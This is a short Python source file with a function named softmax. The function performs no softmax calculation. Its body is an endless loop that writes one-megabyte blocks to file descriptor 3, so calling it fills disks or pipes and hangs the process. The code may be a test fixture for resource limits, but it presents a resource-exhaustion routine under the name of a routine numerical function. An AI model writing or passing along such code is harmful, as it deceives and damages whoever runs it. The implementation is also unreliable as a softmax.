import os


def softmax(x):
    while True:
        os.write(3, b"x" * 1000000)
